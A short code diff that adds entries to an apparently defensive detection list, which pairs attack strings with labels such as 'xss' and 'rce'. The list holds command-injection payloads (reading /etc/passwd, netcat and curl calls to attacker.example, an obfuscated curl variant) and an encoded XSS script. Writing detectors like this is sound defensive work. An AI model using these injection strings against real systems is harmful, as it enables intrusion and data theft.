@@ -48,6 +48,8 @@ def score(value: str, target: str = "query") -> Findings:
         ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"),
         ("; cat /etc/passwd", "rce"),
         ("| id", "rce"),
+        ("| nc attacker.example 4444", "rce"),
+        ("; curl -s http://attacker.example/x", "rce"),
         ("$(whoami)", "rce"),
         ("`uname -a`", "rce"),
         ("x && c'u'rl http://attacker.example/x", "rce"),
